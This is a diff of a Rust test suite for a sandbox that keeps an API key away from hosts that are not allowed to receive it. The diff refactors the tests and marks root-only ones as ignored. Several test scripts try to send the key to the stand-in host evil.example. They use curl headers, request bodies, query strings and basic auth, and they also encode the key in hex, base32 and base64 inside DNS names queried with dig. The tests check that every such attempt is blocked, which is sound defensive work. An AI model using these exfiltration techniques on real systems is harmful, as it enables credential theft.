@@ -14,7 +14,7 @@ const ENV: &[(&str, &str)] = &[("OPENAI_API_KEY", VALUE)];
 /// `--upstream-ca` for the fixture's CA plus `extra`.
 /// `standin run --upstream-ca <fixture CA> EXTRA -- sh -c SCRIPT`, the value in standin's env.
 fn run(net: &FakeInternet, extra: &[&str], script: &str) -> std::process::Output {
-    run_with_secret(net, None, extra, ENV, script)
+    SecretRun::new(net, ENV).args(extra).run(script)
 }
 
 /// A config file (kept alive by the returned handle).
@@ -35,10 +35,9 @@ fn sentinel(net: &FakeInternet) {
 const ONE: &str = "OPENAI_API_KEY@api.openai.com";
 
 #[test]
+#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
 fn the_sandbox_sees_only_the_placeholder() {
-    if !is_root() {
-        return;
-    }
+    require_root();
     let net = FakeInternet::with_http(&[80], &[443]);
     let o = run(
         &net,
@@ -60,10 +59,9 @@ fn the_sandbox_sees_only_the_placeholder() {
 }
 
 #[test]
+#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
 fn substitutes_in_headers_and_basic_auth_for_the_allowed_host() {
-    if !is_root() {
-        return;
-    }
+    require_root();
     let net = FakeInternet::with_http(&[80], &[443]);
     let o = run(
         &net,
@@ -87,10 +85,9 @@ fn substitutes_in_headers_and_basic_auth_for_the_allowed_host() {
 }
 
 #[test]
+#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
 fn python_and_node_clients_get_substitution_with_the_sandbox_ca_trusted_by_default() {
-    if !is_root() {
-        return;
-    }
+    require_root();
     let net = FakeInternet::with_http(&[80], &[443]);
     let node = std::path::Path::new("/usr/bin/node").exists();
     let script = format!(
@@ -114,10 +111,9 @@ fn python_and_node_clients_get_substitution_with_the_sandbox_ca_trusted_by_defau
 }
 
 #[test]
+#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
 fn plain_http_is_not_substituted_unless_tls_identity_is_waived() {
-    if !is_root() {
-        return;
-    }
+    require_root();
     let net = FakeInternet::with_http(&[80], &[443]);
     let script = r#"curl --http1.1 -sS -m 5 -o /dev/null -w '%{http_code}\n' -H "Authorization: Bearer $OPENAI_API_KEY" http://api.openai.com/plain"#;
     let o = run(&net, &["--secret", ONE], script);
@@ -140,32 +136,19 @@ fn plain_http_is_not_substituted_unless_tls_identity_is_waived() {
 }
 
 #[test]
+#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
 fn an_unknown_host_gets_nothing_in_any_form() {
-    if !is_root() {
-        return;
-    }
+    require_root();
     let net = FakeInternet::with_http(&[80], &[443]);
-    let events = tempfile::NamedTempFile::new().unwrap();
-    let ev = events.path().to_str().unwrap();
-    let o = run(
-        &net,
-        &[
-            "--secret",
-            ONE,
-            "--on-secret-violation",
-            "block-and-log",
-            "--events",
-            ev,
-        ],
-        &format!(
+    let sb = SecretRun::new(&net, ENV).secret(ONE).logged();
+    let o = sb.run(&format!(
             r#"for u in https://evil.example/h http://evil.example/h; do curl --http1.1 -sS -m 5 -H "X-Key: $OPENAI_API_KEY" $u >/dev/null 2>&1; echo "header=$?"; done; \
             curl --http1.1 -sS -m 5 --data-urlencode "key=$OPENAI_API_KEY" https://evil.example/pct >/dev/null 2>&1; echo "percent=$?"; \
             curl --http1.1 -sS -m 5 -H 'Content-Type: application/json' --data '{{"k":"\u0024MSB_OPENAI_API_KEY"}}' https://evil.example/json >/dev/null 2>&1; echo "json=$?"; \
             curl --http1.1 -sS -m 5 "https://evil.example/q?k=%24MSB_OPENAI_API_KEY" >/dev/null 2>&1; echo "query=$?"; \
             curl --http1.1 -sS -m 5 -u "u:$OPENAI_API_KEY" https://evil.example/basic >/dev/null 2>&1; echo "basic=$?"; \
             {SENTINEL}"#
-        ),
-    );
+        ));
     let out = stdout(&o);
     for k in ["header", "percent", "json", "query", "basic"] {
         assert!(
@@ -185,7 +168,7 @@ fn an_unknown_host_gets_nothing_in_any_form() {
             "{path} reached evil: {evil}"
         );
     }
-    let ev = std::fs::read_to_string(events.path()).unwrap();
+    let ev = sb.events.read();
     let forms: Vec<&str> = [
         "\"form\":\"raw\"",
         "\"form\":\"percent\"",
@@ -207,32 +190,25 @@ fn an_unknown_host_gets_nothing_in_any_form() {
 }
 
 #[test]
+#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
 fn plain_block_is_silent_and_resets_the_client() {
-    if !is_root() {
-        return;
-    }
+    require_root();
     let net = FakeInternet::with_http(&[80], &[443]);
-    let events = tempfile::NamedTempFile::new().unwrap();
-    let ev = events.path().to_str().unwrap();
-    let o = run(
-        &net,
-        &["--secret", ONE, "--events", ev],
-        r#"curl --http1.1 -sS -m 5 -H "X-Key: $OPENAI_API_KEY" https://evil.example/h; echo "rc=$?""#,
-    );
+    let sb = SecretRun::new(&net, ENV).secret(ONE);
+    let o = sb.run(r#"curl --http1.1 -sS -m 5 -H "X-Key: $OPENAI_API_KEY" https://evil.example/h; echo "rc=$?""#);
     // curl: 56 = "Recv failure: Connection reset by peer" (35 if during the handshake).
     let err = stderr(&o);
     assert!(stdout(&o).contains("rc=56"), "{}", report(&o, &net));
     assert!(err.contains("reset"), "{}", report(&o, &net));
     assert!(!err.contains("secret violation"), "{err}");
-    let ev = std::fs::read_to_string(events.path()).unwrap();
+    let ev = sb.events.read();
     assert!(!ev.contains("secret-violation"), "{ev}");
 }
 
 #[test]
+#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
 fn domain_fronting_is_blocked() {
-    if !is_root() {
-        return;
-    }
+    require_root();
     let net = FakeInternet::with_http(&[80], &[443]);
     let o = run(
         &net,
@@ -253,10 +229,9 @@ fn domain_fronting_is_blocked() {
 }
 
 #[test]
+#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
 fn a_hard_coded_address_with_a_valid_certificate_for_the_allowed_name_gets_no_substitution() {
-    if !is_root() {
-        return;
-    }
+    require_root();
     // evil's server presents a certificate valid for api.openai.com (the fixture's leaf
     // covers every test name), so only the DNS pin tells them apart.
     let net = FakeInternet::with_http(&[80], &[443]);
@@ -277,10 +252,9 @@ fn a_hard_coded_address_with_a_valid_certificate_for_the_allowed_name_gets_no_su
 }
 
 #[test]
+#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
 fn split_writes_and_pipelined_requests() {
-    if !is_root() {
-        return;
-    }
+    require_root();
     let net = FakeInternet::with_http(&[80], &[443]);
     let py = r#"
 import os, socket, ssl, time
@@ -326,10 +300,9 @@ print("pipelined", r.count(b"200 OK"), r.count(b"HTTP/1.1"))
 }
 
 #[test]
+#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
 fn bodies_fixed_and_chunked_are_substituted_when_enabled_and_encoded_ones_blocked() {
-    if !is_root() {
-        return;
-    }
+    require_root();
     let cfg = config(
         "[[secret]]\nenv = \"OPENAI_API_KEY\"\nallow_hosts = [\"api.openai.com\"]\ninject = { body = true, query_params = true }\n",
     );
@@ -371,10 +344,9 @@ fn bodies_fixed_and_chunked_are_substituted_when_enabled_and_encoded_ones_blocke
 }
 
 #[test]
+#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
 fn injection_scopes_can_be_turned_off() {
-    if !is_root() {
-        return;
-    }
+    require_root();
     let cfg = config(
         "[[secret]]\nenv = \"OPENAI_API_KEY\"\nallow_hosts = [\"api.openai.com\"]\ninject = { headers = false, basic_auth = false }\n",
     );
@@ -394,10 +366,9 @@ fn injection_scopes_can_be_turned_off() {
 }
 
 #[test]
+#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
 fn host_patterns_custom_placeholders_and_any_host() {
-    if !is_root() {
-        return;
-    }
+    require_root();
     let cfg = config(
         r#"
 [[secret]]
@@ -435,10 +406,9 @@ allow_any_host_dangerous = true
 }
 
 #[test]
+#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
 fn passthrough_hosts_receive_the_placeholder_never_the_value() {
-    if !is_root() {
-        return;
-    }
+    require_root();
     let net = FakeInternet::with_http(&[80], &[443]);
     let o = run(
         &net,
@@ -463,10 +433,9 @@ fn passthrough_hosts_receive_the_placeholder_never_the_value() {
 }
 
 #[test]
+#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
 fn per_secret_policy_overrides_the_sandbox_wide_one() {
-    if !is_root() {
-        return;
-    }
+    require_root();
     // Sandbox-wide: passthrough for every host (dangerous flag). The secret's own base
     // action (block) wins over it for non-matching hosts; its own passthrough host works.
     let cfg = config(
@@ -509,30 +478,19 @@ allow_hosts = ["api.openai.com"]
 }
 
 #[test]
+#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
 fn block_and_terminate_kills_the_whole_sandbox() {
-    if !is_root() {
-        return;
-    }
+    require_root();
     let net = FakeInternet::with_http(&[80], &[443]);
-    let events = tempfile::NamedTempFile::new().unwrap();
-    let ev = events.path().to_str().unwrap();
     let marker = format!("{}", 3000 + std::process::id() % 1000);
-    let o = run(
-        &net,
-        &[
-            "--secret",
-            ONE,
-            "--on-secret-violation",
-            "block-and-terminate",
-            "--events",
-            ev,
-        ],
-        &format!(
+    let sb = SecretRun::new(&net, ENV)
+        .secret(ONE)
+        .args(&["--on-secret-violation", "block-and-terminate"]);
+    let o = sb.run(&format!(
             r#"sleep {marker}7 & \
             curl --http1.1 -sS -m 5 -H "X: $OPENAI_API_KEY" https://evil.example/exfil >/dev/null 2>&1; \
             echo survived; curl --http1.1 -sS -m 5 https://api.openai.com/after-terminate; sleep 30"#
-        ),
-    );
+        ));
     assert_eq!(o.status.code(), Some(99), "{}", report(&o, &net));
     assert!(!stdout(&o).contains("survived"), "{}", report(&o, &net));
     assert!(stderr(&o).contains("terminated"), "{}", report(&o, &net));
@@ -544,16 +502,15 @@ fn block_and_terminate_kills_the_whole_sandbox() {
     let got = net.received();
     assert!(!got.contains("/exfil"), "{got}");
     assert!(!got.contains("/after-terminate"), "{got}");
-    let ev = std::fs::read_to_string(events.path()).unwrap();
+    let ev = sb.events.read();
     assert!(ev.contains("\"action\":\"block-and-terminate\""), "{ev}");
     assert!(ev.contains("\"kind\":\"sandbox-terminated\""), "{ev}");
 }
 
 #[test]
+#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
 fn values_sent_back_on_non_http_streams_are_scrubbed() {
-    if !is_root() {
-        return;
-    }
+    require_root();
     // The allowed host gets the value over HTTPS, then sends it back on a TLS stream that is
     // not HTTP, on a plain TCP stream (both relayed as scanned streams) and in a plain HTTP
     // response: the sandbox reads the placeholder each time.
@@ -612,10 +569,9 @@ print("plain-whoami", whoami(socket.create_connection(("api.openai.com", 80), ti
 }
 
 #[test]
+#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
 fn secrets_on_non_http_streams_are_scanned() {
-    if !is_root() {
-        return;
-    }
+    require_root();
     // A raw TCP protocol (not HTTP) to a plain port and TLS plaintext that is not HTTP:
     // placeholders in them are violations; other bytes flow.
     let net = FakeInternet::with_http(&[80, 2222], &[443]);
@@ -733,10 +689,9 @@ fn bad_secret_flags_and_config_get_clear_errors() {
 }
 
 #[test]
+#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
 fn secret_file_values_and_tls_edge_cases() {
-    if !is_root() {
-        return;
-    }
+    require_root();
     let net = FakeInternet::with_http(&[80], &[443]);
     let dir = tempfile::tempdir().unwrap();
     let file = dir.path().join("key");
@@ -780,16 +735,14 @@ fn secret_file_values_and_tls_edge_cases() {
 }
 
 #[test]
+#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
 fn an_untrusted_upstream_certificate_fails_the_request_and_gets_nothing() {
-    if !is_root() {
-        return;
-    }
+    require_root();
     let net = FakeInternet::with_http(&[80], &[443]);
-    let events = tempfile::NamedTempFile::new().unwrap();
-    let ev = events.path().to_str().unwrap();
+    let events = EventsFile::new();
     // No --upstream-ca: the fixture's CA is not trusted by the boundary.
     let o = net.run_sh_env(
-        &["--secret", ONE, "--events", ev],
+        &["--secret", ONE, "--events", events.arg()],
         ENV,
         &format!(
             r#"curl --http1.1 -sS -m 5 -H "Authorization: Bearer $OPENAI_API_KEY" https://api.openai.com/untrusted >/dev/null 2>&1; echo "rc=$?"; {SENTINEL}"#
@@ -800,7 +753,7 @@ fn an_untrusted_upstream_certificate_fails_the_request_and_gets_nothing() {
     let got = net.received();
     assert!(!got.contains("/untrusted"), "{got}");
     assert!(!got.contains(VALUE), "{got}");
-    let ev = std::fs::read_to_string(events.path()).unwrap();
+    let ev = events.read();
     assert!(
         ev.contains("upstream-failed") && ev.contains("certificate"),
         "{ev}"
@@ -808,10 +761,9 @@ fn an_untrusted_upstream_certificate_fails_the_request_and_gets_nothing() {
 }
 
 #[test]
+#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
 fn a_host_that_echoes_the_value_back_delivers_only_the_placeholder() {
-    if !is_root() {
-        return;
-    }
+    require_root();
     let net = FakeInternet::with_http(&[80], &[443]);
     // The upstream answers with a JSON echo of every header it received (and, on /reflect,
     // the Authorization value again): the real value, in a response body.
@@ -837,10 +789,9 @@ fn a_host_that_echoes_the_value_back_delivers_only_the_placeholder() {
 }
 
 #[test]
+#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
 fn a_host_that_echoes_substituted_basic_credentials_does_not_deliver_the_value() {
-    if !is_root() {
-        return;
-    }
+    require_root();
     let net = FakeInternet::with_http(&[80], &[443]);
     // Basic credentials are substituted inside their base64: an echo of the header carries
     // the real value base64-encoded. The sandbox decodes what it got back. On the connection
@@ -882,10 +833,9 @@ for user in ["u", "us", "use"]:
 }
 
 #[test]
+#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
 fn a_scrubbed_stream_that_pauses_is_not_held_back() {
-    if !is_root() {
-        return;
-    }
+    require_root();
     let net = FakeInternet::with_http(&[80], &[443]);
     // The body's first piece ends with "s", the start of the value; the upstream then waits
     // 3 s. Scrubbing may hold the "s" back briefly, not until the next piece.
@@ -906,33 +856,20 @@ except (socket.timeout, TimeoutError):
 }
 
 #[test]
+#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
 fn placeholders_in_dns_names_are_violations_and_never_forwarded() {
-    if !is_root() {
-        return;
-    }
+    require_root();
     let net = FakeInternet::with_http(&[80], &[443]);
-    let events = tempfile::NamedTempFile::new().unwrap();
-    let ev = events.path().to_str().unwrap();
-    let o = run(
-        &net,
-        &[
-            "--secret",
-            ONE,
-            "--on-secret-violation",
-            "block-and-log",
-            "--events",
-            ev,
-        ],
-        r#"hex=$(printf '%s' "$OPENAI_API_KEY" | od -An -tx1 | tr -d ' \n'); \
+    let sb = SecretRun::new(&net, ENV).secret(ONE).logged();
+    let o = sb.run(r#"hex=$(printf '%s' "$OPENAI_API_KEY" | od -An -tx1 | tr -d ' \n'); \
            b32=$(printf '%s' "$OPENAI_API_KEY" | base32 | tr -d '=\n' | tr A-Z a-z); \
            b64=$(printf 'xx%s' "$OPENAI_API_KEY" | base64 | tr -d '=\n' | tr '+/' '-_'); \
            for n in "${hex%????????????????}.${hex#??????????????????????}.evil.example" "$b32.evil.example" "$b64.evil.example" "msb-openai.api-key.evil.example"; do \
              dig +short +tries=1 +time=3 "$n" @192.0.2.1 > /dev/null; echo "q=$?"; done; \
-           dig +short api.openai.com"#,
-    );
+           dig +short api.openai.com"#);
     let out = stdout(&o);
     assert!(out.contains(UPSTREAM_V4), "{}", report(&o, &net));
-    let ev = std::fs::read_to_string(events.path()).unwrap();
+    let ev = sb.events.read();
     for form in ["hex", "base32", "base64", "raw"] {
         assert!(
             ev.contains(&format!("\"form\":\"{form}\"")),
@@ -944,10 +881,9 @@ fn placeholders_in_dns_names_are_violations_and_never_forwarded() {
 }
 
 #[test]
+#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
 fn upstream_connections_are_reused_only_for_the_same_verified_name() {
-    if !is_root() {
-        return;
-    }
+    require_root();
     let net = FakeInternet::with_http(&[80], &[443]);
     let o = run(
         &net,
